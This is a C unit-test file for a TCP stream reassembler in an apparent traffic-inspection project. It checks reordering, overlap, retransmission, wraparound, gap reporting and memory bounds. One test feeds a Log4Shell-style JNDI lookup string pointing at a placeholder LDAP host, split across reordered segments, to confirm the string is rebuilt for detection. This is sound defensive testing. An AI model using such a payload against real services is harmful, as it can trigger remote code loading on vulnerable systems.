/* Unit tests of the example host's TCP reassembler (examples/host/tcp_reasm.c),
 * driven with synthetic segments and a recording callback: no libvpatch. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tcp_reasm.h"

/* What the reassembler handed over: data as is, a gap of N bytes as "[gN]". */
typedef struct rec {
    char buf[8192];
    size_t len;
    int calls;
} rec;

static void rec_data(void *ctx, const uint8_t *p, size_t n)
{
    rec *r = ctx;
    ck_assert_uint_le(r->len + n, sizeof(r->buf) - 1);
    memcpy(r->buf + r->len, p, n);
    r->len += n;
    r->buf[r->len] = 0;
    r->calls++;
}

static void rec_gap(void *ctx, uint64_t n)
{
    rec *r = ctx;
    r->len += (size_t)snprintf(r->buf + r->len, sizeof(r->buf) - r->len, "[g%llu]",
                               (unsigned long long)n);
    r->calls++;
}

static const tr_ops ops = {rec_data, rec_gap};

typedef struct fixture {
    tr_pool pool;
    tr_dir d;
    rec r;
} fixture;

static void fx_init(fixture *f, size_t dir_max, size_t total_max)
{
    memset(f, 0, sizeof(*f));
    f->pool.max_dir_bytes = dir_max;
    f->pool.max_total_bytes = total_max;
    tr_init(&f->d);
}

/* Segment with `text` at relative offset `off` from isn+1. */
static int seg(fixture *f, uint32_t isn, uint32_t off, const char *text, int fin)
{
    return tr_segment(&f->d, &f->pool, isn + 1 + off, (const uint8_t *)text, strlen(text), fin,
                      &ops, &f->r);
}

static void fx_done(fixture *f)
{
    tr_release(&f->d, &f->pool);
    ck_assert_uint_eq(f->pool.total_bytes, 0);
}

START_TEST(in_order_zero_copy)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 100);
    seg(&f, 100, 0, "hello ", 0);
    seg(&f, 100, 6, "world", 0);
    ck_assert_str_eq(f.r.buf, "hello world");
    ck_assert_uint_eq(f.pool.stats.ooo_segments, 0);
    ck_assert_uint_eq(f.pool.stats.peak_total_bytes, 0);   /* nothing was copied */
    fx_done(&f);
}
END_TEST

START_TEST(reordering)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 7);
    seg(&f, 7, 8, "CCCC", 0);
    seg(&f, 7, 4, "BBBB", 0);
    ck_assert_uint_eq(f.r.len, 0);
    ck_assert_uint_eq(f.pool.total_bytes, 8);
    seg(&f, 7, 0, "AAAA", 0);
    ck_assert_str_eq(f.r.buf, "AAAABBBBCCCC");
    ck_assert_uint_eq(f.pool.stats.ooo_segments, 2);
    ck_assert_uint_eq(f.pool.total_bytes, 0);
    ck_assert_uint_eq(f.d.ooo_bytes, 0);
    fx_done(&f);
}
END_TEST

START_TEST(exploit_split_in_three_reordered)
{
    /* "${jndi:" split over three segments arriving 3, 1, 2. */
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    seg(&f, 0, 6, "di:ldap://x/a}", 0);
    seg(&f, 0, 0, "q=${j", 0);
    seg(&f, 0, 5, "n", 0);
    ck_assert_str_eq(f.r.buf, "q=${jndi:ldap://x/a}");
    fx_done(&f);
}
END_TEST

START_TEST(overlap_first_data_wins)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 1000);
    seg(&f, 1000, 10, "KLMNOPQRST", 0);      /* buffered: 10..19 */
    seg(&f, 1000, 5, "fghijklmnopqrstuvw", 0); /* 5..22: 10..19 already held */
    seg(&f, 1000, 0, "ABCDEFGH", 0);          /* 0..7: fills the hole, 5..7 were held */
    /* 5..9 came first from the second segment, 10..19 from the first. */
    ck_assert_str_eq(f.r.buf, "ABCDEfghijKLMNOPQRSTuvw");
    ck_assert_uint_eq(f.pool.stats.overlap_bytes, 10 + 3);
    ck_assert_uint_eq(f.pool.stats.overlap_conflicts, 1);   /* k..t against K..T */
    /* Overlap with delivered data: old bytes win, the new tail is taken. */
    seg(&f, 1000, 19, "zzzzXYZ", 0);
    ck_assert_str_eq(f.r.buf, "ABCDEfghijKLMNOPQRSTuvwXYZ");
    fx_done(&f);
}
END_TEST

START_TEST(retransmission)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 5);
    seg(&f, 5, 0, "abc", 0);
    seg(&f, 5, 0, "abc", 0);
    seg(&f, 5, 0, "XYZ", 0);    /* a retransmission with other bytes changes nothing */
    seg(&f, 5, 3, "def", 0);
    seg(&f, 5, 6, "ghi", 0);
    seg(&f, 5, 3, "def", 0);
    ck_assert_str_eq(f.r.buf, "abcdefghi");
    ck_assert_uint_eq(f.pool.stats.retrans_segments, 3);
    /* A retransmission of buffered (not yet delivered) data. */
    seg(&f, 5, 12, "mno", 0);
    seg(&f, 5, 12, "mno", 0);
    ck_assert_uint_eq(f.pool.stats.retrans_segments, 4);
    seg(&f, 5, 9, "jkl", 0);
    ck_assert_str_eq(f.r.buf, "abcdefghijklmno");
    fx_done(&f);
}
END_TEST

START_TEST(sequence_wraparound)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    uint32_t isn = 0xfffffff8u;   /* data starts at 0xfffffff9 and wraps after 7 bytes */
    tr_syn(&f.d, isn);
    seg(&f, isn, 10, "KLMNO", 0); /* beyond the wrap, buffered */
    seg(&f, isn, 5, "FGHIJ", 0);  /* crosses the wrap */
    seg(&f, isn, 0, "ABCDE", 0);
    seg(&f, isn, 2, "cdefg", 0);  /* old data across the wrap */
    seg(&f, isn, 15, "P", 1);
    ck_assert_str_eq(f.r.buf, "ABCDEFGHIJKLMNOP");
    ck_assert(f.d.done);
    ck_assert_uint_eq(f.d.next, isn + 1 + 16 + 0);
    fx_done(&f);
}
END_TEST

START_TEST(loss_reported_as_gap)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    seg(&f, 0, 0, "aaaa", 0);
    seg(&f, 0, 8, "cccc", 0);     /* 4..7 never come */
    seg(&f, 0, 16, "eeee", 0);    /* 12..15 never come */
    ck_assert_str_eq(f.r.buf, "aaaa");
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "aaaa[g4]cccc[g4]eeee");
    ck_assert_uint_eq(f.pool.stats.gaps, 2);
    ck_assert_uint_eq(f.pool.stats.gap_bytes, 8);
    ck_assert_uint_eq(f.pool.total_bytes, 0);
    fx_done(&f);
}
END_TEST

START_TEST(fin_in_order_ends_stream)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    ck_assert_int_eq(seg(&f, 0, 0, "GET / ", 0), TR_MORE);
    ck_assert_int_eq(seg(&f, 0, 6, "HTTP/1.0\r\n\r\n", 1), TR_END);
    ck_assert(f.d.done);
    /* Anything afterwards is ignored. */
    ck_assert_int_eq(seg(&f, 0, 18, "late", 0), TR_MORE);
    ck_assert_str_eq(f.r.buf, "GET / HTTP/1.0\r\n\r\n");
    fx_done(&f);
}
END_TEST

START_TEST(fin_before_missing_data)
{
    /* The FIN arrives first; the stream ends when the data before it is in. */
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    ck_assert_int_eq(seg(&f, 0, 4, "", 1), TR_MORE);      /* bare FIN at 4 */
    ck_assert_int_eq(seg(&f, 0, 2, "cdXX", 0), TR_MORE);  /* bytes past the FIN are cut */
    ck_assert_int_eq(seg(&f, 0, 0, "ab", 0), TR_END);
    ck_assert_str_eq(f.r.buf, "abcd");
    ck_assert_uint_eq(f.pool.stats.after_fin_bytes, 2);
    fx_done(&f);
}
END_TEST

START_TEST(fin_beyond_hole_gap_at_finish)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    seg(&f, 0, 0, "abc", 0);
    seg(&f, 0, 6, "ghi", 1);      /* 3..5 lost, FIN at 9 */
    ck_assert(!f.d.done);
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "abc[g3]ghi");
    ck_assert(f.d.done);
    /* FIN with the bytes just before it missing and nothing buffered. */
    fixture g;
    fx_init(&g, 1 << 20, 1 << 20);
    tr_syn(&g.d, 0);
    seg(&g, 0, 0, "abc", 0);
    seg(&g, 0, 10, "", 1);
    tr_finish(&g.d, &g.pool, &ops, &g.r);
    ck_assert_str_eq(g.r.buf, "abc[g7]");
    fx_done(&f);
    fx_done(&g);
}
END_TEST

START_TEST(rst_flushes_with_gaps)
{
    /* The host answers a RST with tr_finish: buffered data behind a hole is
     * delivered after a gap and the direction is done. */
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    seg(&f, 0, 0, "abc", 0);
    seg(&f, 0, 5, "fg", 0);
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "abc[g2]fg");
    ck_assert(f.d.done);
    ck_assert_int_eq(seg(&f, 0, 3, "de", 0), TR_MORE);
    ck_assert_str_eq(f.r.buf, "abc[g2]fg");
    tr_finish(&f.d, &f.pool, &ops, &f.r);   /* idempotent */
    ck_assert_str_eq(f.r.buf, "abc[g2]fg");
    fx_done(&f);
}
END_TEST

START_TEST(acked_but_never_seen)
{
    /* The peer acknowledged 10 bytes; only 4 were captured. */
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 99);
    seg(&f, 99, 0, "abcd", 0);
    tr_ack(&f.d, 100 + 10);
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "abcd[g6]");
    fx_done(&f);
}
END_TEST

START_TEST(midstream_pickup)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    /* No SYN: the first segment seen starts the stream. */
    seg(&f, 0x7fff0000u, 0, "middle ", 0);
    seg(&f, 0x7fff0000u, 7, "of it", 0);
    seg(&f, 0x7fff0000u, 0xfffffff0u, "before the pick-up", 0);   /* earlier data: old */
    ck_assert_str_eq(f.r.buf, "middle of it");
    fx_done(&f);
}
END_TEST

START_TEST(bounded_per_direction)
{
    /* 8 bytes per direction: the third out-of-order piece does not fit, so the
     * oldest hole is given up (a gap) and buffered data flows on. */
    fixture f;
    fx_init(&f, 8, 1 << 20);
    tr_syn(&f.d, 0);
    seg(&f, 0, 0, "aa", 0);
    seg(&f, 0, 4, "cccc", 0);
    seg(&f, 0, 10, "ee", 0);
    ck_assert_uint_eq(f.d.ooo_bytes, 6);
    seg(&f, 0, 14, "ggg", 0);    /* 6 + 3 > 8 */
    ck_assert_uint_le(f.d.ooo_bytes, 8);
    ck_assert_uint_eq(f.pool.stats.ooo_overflows, 1);
    ck_assert_str_eq(f.r.buf, "aa[g2]cccc");
    seg(&f, 0, 2, "bb", 0);      /* too late: already reported lost */
    seg(&f, 0, 8, "dd", 0);      /* fills the hole before "ee" */
    ck_assert_str_eq(f.r.buf, "aa[g2]ccccddee");
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "aa[g2]ccccddee[g2]ggg");
    ck_assert_uint_le(f.pool.stats.peak_total_bytes, 8);
    fx_done(&f);
}
END_TEST

START_TEST(bounded_in_total)
{
    /* Two directions share a 10-byte pool. */
    fixture f;
    fx_init(&f, 1 << 20, 10);
    tr_dir other;
    tr_init(&other);
    rec ro = {{0}, 0, 0};
    tr_syn(&f.d, 0);
    tr_syn(&other, 0);
    seg(&f, 0, 1, "12345678", 0);
    ck_assert_uint_eq(f.pool.total_bytes, 8);
    tr_segment(&other, &f.pool, 1 + 1, (const uint8_t *)"xyzw", 4, 0, &ops, &ro);
    ck_assert_uint_le(f.pool.total_bytes, 10);
    ck_assert_uint_eq(f.pool.stats.ooo_overflows, 1);
    ck_assert_str_eq(ro.buf, "[g1]xyzw");      /* its own hole given up, data delivered */
    ck_assert_str_eq(f.r.buf, "");
    tr_release(&other, &f.pool);
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "[g1]12345678");
    fx_done(&f);
}
END_TEST

START_TEST(huge_segment_beyond_hole)
{
    fixture f;
    fx_init(&f, 4, 4);
    tr_syn(&f.d, 0);
    seg(&f, 0, 3, "0123456789", 0);   /* bigger than any bound: hole skipped at once */
    ck_assert_str_eq(f.r.buf, "[g3]0123456789");
    ck_assert_uint_eq(f.pool.stats.peak_total_bytes, 0);
    fx_done(&f);
}
END_TEST

START_TEST(out_of_window_dropped)
{
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    tr_syn(&f.d, 0);
    seg(&f, 0, 0, "ok", 0);
    seg(&f, 0, TR_MAX_AHEAD + 100, "far", 0);
    ck_assert_uint_eq(f.pool.stats.out_of_window, 1);
    ck_assert_uint_eq(f.pool.total_bytes, 0);
    tr_finish(&f.d, &f.pool, &ops, &f.r);
    ck_assert_str_eq(f.r.buf, "ok");
    fx_done(&f);
}
END_TEST

START_TEST(many_small_segments_random_order)
{
    /* 200 one-byte segments in a fixed scrambled order, each sent twice. */
    fixture f;
    fx_init(&f, 1 << 20, 1 << 20);
    char expect[201];
    for (int i = 0; i < 200; i++)
        expect[i] = (char)('a' + i % 26);
    expect[200] = 0;
    tr_syn(&f.d, 0xffffff80u);   /* wraps after 127 bytes */
    for (int k = 0; k < 2; k++)
        for (int i = 0; i < 200; i++) {
            int j = (i * 73 + 11) % 200;   /* 73 is coprime with 200: a permutation */
            char s[2] = {expect[j], 0};
            seg(&f, 0xffffff80u, (uint32_t)j, s, 0);
        }
    ck_assert_str_eq(f.r.buf, expect);
    ck_assert_uint_eq(f.pool.stats.retrans_segments, 200);
    fx_done(&f);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("tcp_reasm");
    TCase *tc = tcase_create("core");
    tcase_add_test(tc, in_order_zero_copy);
    tcase_add_test(tc, reordering);
    tcase_add_test(tc, exploit_split_in_three_reordered);
    tcase_add_test(tc, overlap_first_data_wins);
    tcase_add_test(tc, retransmission);
    tcase_add_test(tc, sequence_wraparound);
    tcase_add_test(tc, loss_reported_as_gap);
    tcase_add_test(tc, fin_in_order_ends_stream);
    tcase_add_test(tc, fin_before_missing_data);
    tcase_add_test(tc, fin_beyond_hole_gap_at_finish);
    tcase_add_test(tc, rst_flushes_with_gaps);
    tcase_add_test(tc, acked_but_never_seen);
    tcase_add_test(tc, midstream_pickup);
    tcase_add_test(tc, bounded_per_direction);
    tcase_add_test(tc, bounded_in_total);
    tcase_add_test(tc, huge_segment_beyond_hole);
    tcase_add_test(tc, out_of_window_dropped);
    tcase_add_test(tc, many_small_segments_random_order);
    suite_add_tcase(s, tc);
    SRunner *sr = srunner_create(s);
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
